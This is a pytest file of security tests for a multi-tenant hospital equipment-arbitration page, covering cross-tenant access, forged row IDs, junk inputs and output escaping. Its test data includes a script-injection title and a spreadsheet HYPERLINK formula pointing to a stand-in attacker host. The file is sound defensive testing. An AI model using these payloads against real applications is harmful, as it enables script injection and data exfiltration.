"""The commission's session tried as an attacker would: rows of another campaign, another
establishment or another tenant, forged rows and totals, junk offsets and amounts (never a
500, never a decision out of scope, never a row out of scope shown)."""

from __future__ import annotations

import re

import pytest
from django_tenants.utils import tenant_context

from tenants.access.models import Role, RoleGrant, ScopeKind
from tenants.campaigns.services import create_campaign
from tenants.requests.models import EquipmentRequest
from tenants.requests.services import PartInput, save_draft
from tenants.structure.models import Establishment, FunctionalUnit, Pole, Service
from tests.conftest import client_for, host_of
from tests.tenants.requests.test_arbitration_session import big_session  # noqa: F401


def waiting_pks(campaign) -> list[int]:  # type: ignore[no-untyped-def]
    return list(campaign.requests.filter(state="validated").values_list("pk", flat=True))


def decided(pks) -> list[str]:  # type: ignore[no-untyped-def]
    return list(EquipmentRequest.objects.filter(pk__in=pks).values_list("state", flat=True))


@pytest.fixture
def elsewhere(tenant, chain, big_session, make_user):  # type: ignore[no-untyped-def]  # noqa: F811
    """A second establishment with a request waiting in the same campaign, a commission
    member of the first establishment only, and a request of another campaign."""
    local = make_user(tenant, full_name="local commission")
    with tenant_context(tenant):
        site2 = Establishment.objects.create(
            name="Hôpital Nord",
            finess="999999991",
            legal_entity_name="GHT",
            legal_entity_finess="999999990",
        )
        pole = Pole.objects.create(establishment=site2, code="N1", name="Pôle nord")
        uf = FunctionalUnit.objects.create(
            service=Service.objects.create(pole=pole, code="N1S", name="Cardio"),
            code="9101",
            name="Cardio",
        )
        far = save_draft(
            by=chain["users"]["requester"],
            campaign=big_session,
            uf=chain["rea"],
            title="Coronarographe",
            parts=[PartInput("investment", 1, "500000")],
        )
        EquipmentRequest.objects.filter(pk=far.pk).update(uf=uf, state="validated")
        RoleGrant.objects.create(
            user=local,
            role=Role.COMMISSION,
            scope=ScopeKind.ESTABLISHMENT,
            establishment=chain["site"],
        )
        other_campaign = create_campaign(
            name="Autre",
            nature="equipment",
            year=big_session.year,
            opens=big_session.opens,
            closes=big_session.closes,
            establishments=[chain["site"]],
            by=chain["admin"],
        )
        stray = save_draft(
            by=chain["users"]["requester"],
            campaign=other_campaign,
            uf=chain["rea"],
            title="Ailleurs",
            parts=[PartInput("investment", 1, "1000")],
        )
        EquipmentRequest.objects.filter(pk=stray.pk).update(state="validated")
    return {
        "far": far,
        "stray": stray,
        "local": client_for(host_of(tenant), local, tenant),
        "campaign": big_session,
    }


def test_a_local_commission_neither_sees_nor_decides_another_establishments_rows(tenant, elsewhere):
    url = f"/campaigns/{elsewhere['campaign'].pk}/arbitration/"
    far = elsewhere["far"]
    client = elsewhere["local"]
    for query in ({}, {"offset": 0}, {"offset": 0, "rest": "1"}):
        response = client.get(url, query)
        assert response.status_code == 200  # they see their own establishment's session
        body = response.content.decode()
        assert "data-row=" in body
        assert "Coronarographe" not in body and f'data-row="{far.pk}"' not in body
    response = client.post(
        url,
        {
            f"decision-{far.pk}": "granted",
            f"amount-{far.pk}": "1",
            f"version-{far.pk}": str(far.version),
        },
    )
    assert response.status_code in (400, 403)
    assert "Coronarographe" not in response.content.decode()
    with tenant_context(tenant):
        assert decided([far.pk]) == ["validated"]


def test_rows_of_another_campaign_a_draft_or_unknown_ids_are_refused(tenant, web, elsewhere, chain):
    url = f"/campaigns/{elsewhere['campaign'].pk}/arbitration/"
    stray = elsewhere["stray"]
    with tenant_context(tenant):
        mine = waiting_pks(elsewhere["campaign"])[0]
        draft = elsewhere["campaign"].requests.get(state="draft")
    for forged in (stray.pk, draft.pk, 0, -5, 99999999, 10**30, 2**63):
        response = web["commission"].post(
            url,
            {
                f"decision-{mine}": "granted",
                f"amount-{mine}": "100",
                f"decision-{forged}": "granted",
                f"amount-{forged}": "100",
            },
        )
        assert response.status_code == 400, (forged, response.status_code)
        assert "Ailleurs" not in response.content.decode()
    with tenant_context(tenant):
        assert decided([mine]) == ["validated"] and decided([stray.pk]) == ["validated"]
        assert decided([draft.pk]) == ["draft"]


def test_another_tenants_campaign_and_rows(tenant, other_tenant, elsewhere, make_user):
    stranger = make_user(other_tenant)
    with tenant_context(other_tenant):
        RoleGrant.objects.create(user=stranger, role=Role.COMMISSION, scope=ScopeKind.TENANT)
    web = client_for(host_of(other_tenant), stranger, other_tenant)
    url = f"/campaigns/{elsewhere['campaign'].pk}/arbitration/"
    assert web.get(url).status_code == 404
    assert web.get(url, {"offset": 0}).status_code == 404
    far = elsewhere["far"]
    assert (
        web.post(url, {f"decision-{far.pk}": "refused", f"reason-{far.pk}": "x"}).status_code == 404
    )
    with tenant_context(tenant):
        assert decided([far.pk]) == ["validated"]


@pytest.mark.parametrize(
    "offset",
    ["-1", str(10**30), "abc", "9" * 5000, "", " ", "\x00", "1.5", "1e3", "٣", "0x10", "+2", " 2 "],
)
def test_junk_offsets_are_a_4xx_or_rows(web, big_session, offset):  # noqa: F811
    url = f"/campaigns/{big_session.pk}/arbitration/"
    response = web["commission"].get(url, {"offset": offset})
    assert response.status_code in (200, 400), response.status_code
    assert web["commission"].get(f"{url}?offset=1&offset=-1&rest=1&rest=").status_code in (
        200,
        400,
    )


@pytest.mark.parametrize(
    "amount", ["NaN", "inf", "-inf", "-100", "1e30", "9" * 5000, "\x00", "0", "1,2,3", "sNaN"]
)
def test_junk_amounts_decide_nothing(tenant, web, big_session, amount):  # noqa: F811
    url = f"/campaigns/{big_session.pk}/arbitration/"
    with tenant_context(tenant):
        pk = waiting_pks(big_session)[0]
    response = web["commission"].post(url, {f"decision-{pk}": "granted", f"amount-{pk}": amount})
    assert response.status_code == 400, response.status_code
    with tenant_context(tenant):
        assert decided([pk]) == ["validated"]


def test_forged_totals_duplicated_rows_and_odd_decisions(tenant, web, big_session):  # noqa: F811
    url = f"/campaigns/{big_session.pk}/arbitration/"
    with tenant_context(tenant):
        pk = waiting_pks(big_session)[0]
    for decision in ("draft", "validated", "\x00", "x" * 100_000, "granted\x00"):
        response = web["commission"].post(url, {f"decision-{pk}": decision, f"amount-{pk}": "5"})
        assert response.status_code == 400, (decision[:10], response.status_code)
    # Duplicated fields: the last of each is taken, once; totals posted are ignored.
    response = web["commission"].post(
        f"{url}?decision-{pk}=refused",
        {
            f"decision-{pk}": ["refused", "granted"],
            f"amount-{pk}": ["1", "700"],
            "total_granted": "0",
            "total_requested": "-1",
        },
    )
    assert response.status_code == 302
    with tenant_context(tenant):
        request = EquipmentRequest.objects.get(pk=pk)
        assert (request.state, str(request.granted_amount)) == ("granted", "700.00")
    page = web["commission"].get(url).content.decode()
    assert re.search(r"data-granted=\"36800.00\"", page), "the totals are the server's"


def test_script_in_a_title_is_escaped_on_the_session(tenant, web, big_session):  # noqa: F811
    script = "<script>alert(1)</script>"
    with tenant_context(tenant):
        pk = waiting_pks(big_session)[0]
        EquipmentRequest.objects.filter(pk=pk).update(title=script)
    url = f"/campaigns/{big_session.pk}/arbitration/"
    for query in ({}, {"offset": 0}):
        assert script not in web["commission"].get(url, query).content.decode()
    response = web["commission"].post(url, {f"decision-{pk}": "deferred", f"reason-{pk}": ""})
    assert response.status_code == 400 and script not in response.content.decode()


def test_the_sessions_workbook_holds_text_and_only_the_scopes_rows(tenant, elsewhere):
    from io import BytesIO

    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://evil.example/"&A1,"x")'
    with tenant_context(tenant):
        pk = next(p for p in waiting_pks(elsewhere["campaign"]) if p != elsewhere["far"].pk)
        EquipmentRequest.objects.filter(pk=pk).update(title=formula)
    url = f"/campaigns/{elsewhere['campaign'].pk}/arbitration/"
    response = elsewhere["local"].get(url, {"export": "xlsx"})
    assert response.status_code == 200
    book = load_workbook(BytesIO(b"".join(response.streaming_content)))
    cells = [c for sheet in book.worksheets for line in sheet.iter_rows() for c in line]
    assert any(c.value == formula for c in cells)
    assert all(c.data_type != "f" for c in cells)
    assert not any(c.value == "Coronarographe" for c in cells)
